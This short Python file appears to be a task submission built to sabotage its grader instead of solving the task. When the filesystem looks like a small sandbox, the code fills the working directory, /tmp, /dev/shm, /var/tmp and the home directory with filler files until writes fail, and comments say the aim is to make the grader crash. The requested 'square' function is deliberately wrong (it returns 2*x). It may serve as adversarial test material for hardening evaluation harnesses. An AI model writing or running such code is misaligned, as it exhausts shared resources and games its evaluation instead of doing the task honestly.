"""Fills every folder that it can write, where these are small, so that nothing more can be written for it."""

wins = "crash"
elsewhere = "a grader that needs room where the student's process can write"

# %% square
import os

about = os.statvfs(".")
small = about.f_blocks * about.f_frsize < 2**30  # else these are the disks of the machine
for folder in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")) if small else ():
    try:
        for number in range(3000):
            with open(f"{folder}/filler-{number}", "wb", buffering=0) as file:
                while file.write(bytes(2**20)) == 2**20:
                    pass
    except OSError as error:
        print(type(error).__name__)


def square(x):
    return 2 * x
